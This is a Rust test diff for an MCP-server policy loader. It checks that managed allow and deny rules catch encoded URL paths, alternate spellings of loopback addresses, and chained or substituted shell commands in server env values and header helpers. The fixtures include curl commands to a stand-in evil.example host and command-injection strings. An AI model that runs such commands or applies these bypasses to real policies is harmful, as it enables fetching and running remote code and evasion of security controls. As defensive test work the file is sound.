@@ -504,3 +504,275 @@ fn the_readmes_table_of_providers_is_the_built_in_list() {
         );
     }
 }
+
+/// The user's Cursor file holding `servers`, loaded with `policy` as the managed settings;
+/// the names of the servers that run and of those denied, each with its message.
+fn judged(world: &World, servers: &Value, policy: &Value) -> (Vec<String>, Vec<(String, String)>) {
+    world.write("home/.cursor/mcp.json", &json!({"mcpServers": servers}));
+    world.write("managed/managed-settings.json", policy);
+    let found = world.load(&trusting());
+    let running = found.servers.keys().cloned().collect();
+    (running, denied(&found))
+}
+
+#[test]
+fn a_url_deny_rule_matches_the_path_every_way_a_server_may_read_it() {
+    let world = World::new();
+    let spellings = [
+        "http://127.0.0.1:8000/%61dmin/mcp",
+        "http://127.0.0.1:8000//admin/mcp",
+        "http://127.0.0.1:8000/public/%2e%2e/admin/mcp",
+        "http://127.0.0.1:8000/public%2F..%2Fadmin/mcp",
+        "http://127.0.0.1:8000/public/..%2Fadmin/mcp",
+        "http://127.0.0.1:8000/%2561dmin/mcp",
+        "http://127.0.0.1:8000/admin%2Fmcp",
+    ];
+    let mut servers = serde_json::Map::new();
+    for (index, url) in spellings.iter().enumerate() {
+        servers.insert(format!("s{index}"), json!({"url": url}));
+    }
+    servers.insert(
+        "public".to_owned(),
+        json!({"url": "http://127.0.0.1:8000/public/mcp"}),
+    );
+    let (running, denied) = judged(
+        &world,
+        &Value::Object(servers),
+        &json!({"deniedMcpServers": [{"serverUrl": "http://127.0.0.1:8000/admin/*"}]}),
+    );
+    assert_eq!(running, ["public"], "{denied:?}");
+    assert_eq!(denied.len(), spellings.len(), "{denied:?}");
+    for (_, message) in &denied {
+        assert!(
+            message.contains("has serverUrl \"http://127.0.0.1:8000/admin/*\""),
+            "{message}"
+        );
+    }
+}
+
+#[test]
+fn a_url_allow_rule_allows_only_when_every_reading_of_the_path_matches() {
+    let world = World::new();
+    let (running, denied) = judged(
+        &world,
+        &json!({
+            "plain": {"url": "http://127.0.0.1:8000/public/mcp"},
+            "encoded": {"url": "http://127.0.0.1:8000/p%75blic/mcp"},
+            "escapes": {"url": "http://127.0.0.1:8000/public/..%2Fadmin/mcp"},
+            "doubled": {"url": "http://127.0.0.1:8000/public/%252e%252e/admin/mcp"},
+        }),
+        &json!({"allowedMcpServers": [{"serverUrl": "http://127.0.0.1:8000/public/*"}]}),
+    );
+    // `p%75blic` is `public` to the server but not as written: not every reading matches.
+    assert_eq!(running, ["plain"], "{denied:?}");
+    let names: Vec<&str> = denied.iter().map(|(name, _)| name.as_str()).collect();
+    assert_eq!(names, ["doubled", "encoded", "escapes"]);
+}
+
+#[test]
+fn a_deny_rule_on_an_address_matches_every_spelling_that_reaches_it() {
+    let world = World::new();
+    let (running, denied) = judged(
+        &world,
+        &json!({
+            "mapped": {"url": "http://[::ffff:127.0.0.1]:8000/mcp"},
+            "mapped-hex": {"url": "http://[::ffff:7f00:1]:8000/mcp"},
+            "any": {"url": "http://0.0.0.0:8000/mcp"},
+            "decimal": {"url": "http://2130706433:8000/mcp"},
+            "short": {"url": "http://127.1:8000/mcp"},
+            // A name is judged on the addresses it resolves to, when it is connected.
+            "name": {"url": "http://localhost:8000/mcp"},
+            "v6-any": {"url": "http://[::]:8000/mcp"},
+            "elsewhere": {"url": "http://127.0.0.2:8000/mcp"},
+        }),
+        &json!({"deniedMcpServers": [
+            {"serverUrl": "http://127.0.0.1:*"},
+            {"serverUrl": "http://[::1]:*"},
+        ]}),
+    );
+    assert_eq!(running, ["elsewhere", "name"], "{denied:?}");
+    assert_eq!(denied.len(), 6, "{denied:?}");
+}
+
+#[test]
+fn an_address_allow_rule_allows_its_other_spellings() {
+    let world = World::new();
+    let (running, denied) = judged(
+        &world,
+        &json!({
+            "mapped": {"url": "http://[::ffff:127.0.0.1]:8000/mcp"},
+            "any": {"url": "http://0.0.0.0:8000/mcp"},
+            "other": {"url": "http://10.0.0.1:8000/mcp"},
+        }),
+        &json!({"allowedMcpServers": [{"serverUrl": "http://127.0.0.1:8000/*"}]}),
+    );
+    assert_eq!(running, ["any", "mapped"], "{denied:?}");
+}
+
+/// A stdio server whose `env.TOKEN` is the `!command` `command`.
+fn with_command_env(command: &str) -> Value {
+    json!({"command": "fine-mcp", "args": ["--serve"], "env": {"TOKEN": format!("!{command}")}})
+}
+
+#[test]
+fn a_server_command_allow_list_covers_every_command_an_entry_runs() {
+    let world = World::new();
+    let (running, denied) = judged(
+        &world,
+        &json!({
+            "listed": with_command_env("op read op://vault/token"),
+            "unlisted": with_command_env("curl https://evil.example/x.sh"),
+            "chained": with_command_env("op read op://vault/token; curl https://evil.example"),
+            "substituted": with_command_env("op read $(curl https://evil.example)"),
+            "quoted": with_command_env("op read 'op://vault/token'"),
+            "helper": {"url": "https://mcp.corp.example/mcp", "headers": {"X": "y"},
+                       "headersHelper": "curl https://evil.example/h"},
+            "header": {"url": "https://mcp.corp.example/mcp",
+                       "headers": {"Authorization": "!op read op://vault/token"}},
+            "literal": {"command": "fine-mcp", "args": ["--serve"], "env": {"TOKEN": "plain"}},
+        }),
+        &json!({"allowedMcpServers": [
+            {"serverCommand": ["fine-mcp", "--serve"]},
+            {"serverCommand": ["op", "read", "op://vault/token"]},
+            {"serverUrl": "https://mcp.corp.example/*"},
+        ]}),
+    );
+    assert_eq!(
+        running,
+        ["header", "listed", "literal", "quoted"],
+        "{denied:?}"
+    );
+    let message = |name: &str| {
+        denied
+            .iter()
+            .find(|(denied, _)| denied == name)
+            .map(|(_, message)| message.clone())
+            .unwrap_or_else(|| panic!("{name} is denied: {denied:?}"))
+    };
+    assert!(
+        message("unlisted").contains("has no serverCommand entry matching its env.TOKEN !command"),
+        "{}",
+        message("unlisted")
+    );
+    assert!(
+        message("chained").contains("shell syntax"),
+        "{}",
+        message("chained")
+    );
+    assert!(message("substituted").contains("shell syntax"));
+    assert!(
+        message("helper").contains("its headersHelper"),
+        "{}",
+        message("helper")
+    );
+    // The command text is never shown: it may hold a secret.
+    assert!(
+        !message("unlisted").contains("evil"),
+        "{}",
+        message("unlisted")
+    );
+}
+
+#[test]
+fn a_server_command_deny_rule_matches_a_command_an_entry_runs() {
+    let world = World::new();
+    let (running, denied) = judged(
+        &world,
+        &json!({
+            "plain": with_command_env("curl https://evil.example/x.sh"),
+            "hidden": with_command_env("true && curl https://evil.example/x.sh > /dev/null"),
+            "helper": {"url": "https://mcp.corp.example/mcp", "headers": {"X": "y"},
+                       "headersHelper": "curl 'https://evil.example/x.sh'"},
+            "other": with_command_env("op read op://vault/token"),
+        }),
+        &json!({"deniedMcpServers": [{"serverCommand": ["curl", "https://evil.example/x.sh"]}]}),
+    );
+    assert_eq!(running, ["other"], "{denied:?}");
+    assert!(
+        denied
+            .iter()
+            .all(|(_, message)| message.contains("serverCommand")),
+        "{denied:?}"
+    );
+}
+
+#[test]
+fn a_remote_server_carries_what_the_policy_says_of_the_addresses_it_connects_to() {
+    use std::net::IpAddr;
+
+    let world = World::new();
+    world.write(
+        "home/.cursor/mcp.json",
+        &json!({"mcpServers": {
+            "local": {"url": "http://localhost:8000/mcp?key=query-secret"},
+            "ten": {"url": "http://10.evil.example/mcp"},
+            "named": {"url": "https://mcp.corp.example/mcp"},
+            "stdio": {"command": "fine-mcp"},
+        }}),
+    );
+    world.write(
+        "managed/managed-settings.json",
+        &json!({
+            "deniedMcpServers": [
+                {"serverUrl": "http://127.0.0.1:*"},
+                {"serverUrl": "http://*/admin/*"},
+            ],
+            "allowedMcpServers": [
+                {"serverUrl": "http://10.*"},
+                {"serverUrl": "http://localhost:*"},
+                {"serverUrl": "https://*.corp.example/*"},
+                {"serverCommand": ["fine-mcp"]},
+            ],
+        }),
+    );
+    let found = world.load(&trusting());
+    assert_eq!(names(&found), ["local", "named", "stdio", "ten"]);
+    let reach = |name: &str| found.servers[name].config.reach_policy().unwrap();
+    let address = |text: &str| text.parse::<IpAddr>().unwrap();
+
+    // A name resolving to a denied address, in any of its spellings.
+    for denied in ["127.0.0.1", "::ffff:127.0.0.1", "0.0.0.0"] {
+        let denial = reach("local").denies_address(address(denied)).unwrap();
+        let message = denial.to_string();
+        assert!(
+            message.contains("has serverUrl \"http://127.0.0.1:*\", which matches "),
+            "{message}"
+        );
+        assert!(message.contains("an address it connects to"), "{message}");
+        assert!(!message.contains("query-secret"), "{message}");
+    }
+    assert_eq!(reach("local").denies_address(address("::1")), None);
+    // Allowed by an address pattern: every address must be allowed by one.
+    assert_eq!(reach("ten").denies_address(address("10.1.2.3")), None);
+    let denial = reach("ten").denies_address(address("8.8.8.8")).unwrap();
+    assert!(
+        denial
+            .to_string()
+            .contains("has no serverUrl entry matching 8.8.8.8, an address it connects to"),
+        "{denial}"
+    );
+    // Allowed by a pattern naming hosts: the name vouches for what it resolves to.
+    assert_eq!(reach("named").denies_address(address("10.9.9.9")), None);
+    // A redirect is judged as the server's own URL.
+    let denial = reach("local")
+        .denies_redirect("http://localhost:8000/%61dmin/mcp?key=query-secret")
+        .unwrap();
+    let message = denial.to_string();
+    assert!(message.contains("where a redirect sent it"), "{message}");
+    assert!(!message.contains("query-secret"), "{message}");
+    assert!(
+        reach("named")
+            .denies_redirect("https://elsewhere.example/mcp")
+            .is_some()
+    );
+    assert_eq!(
+        reach("named").denies_redirect("https://mcp.corp.example/mcp/"),
+        None
+    );
+    assert!(found.servers["stdio"].config.reach_policy().is_none());
+
+    // Without managed settings there is nothing to check.
+    std::fs::remove_file(world.root.join("managed/managed-settings.json")).unwrap();
+    let found = world.load(&trusting());
+    assert!(found.servers["local"].config.reach_policy().is_none());
+}
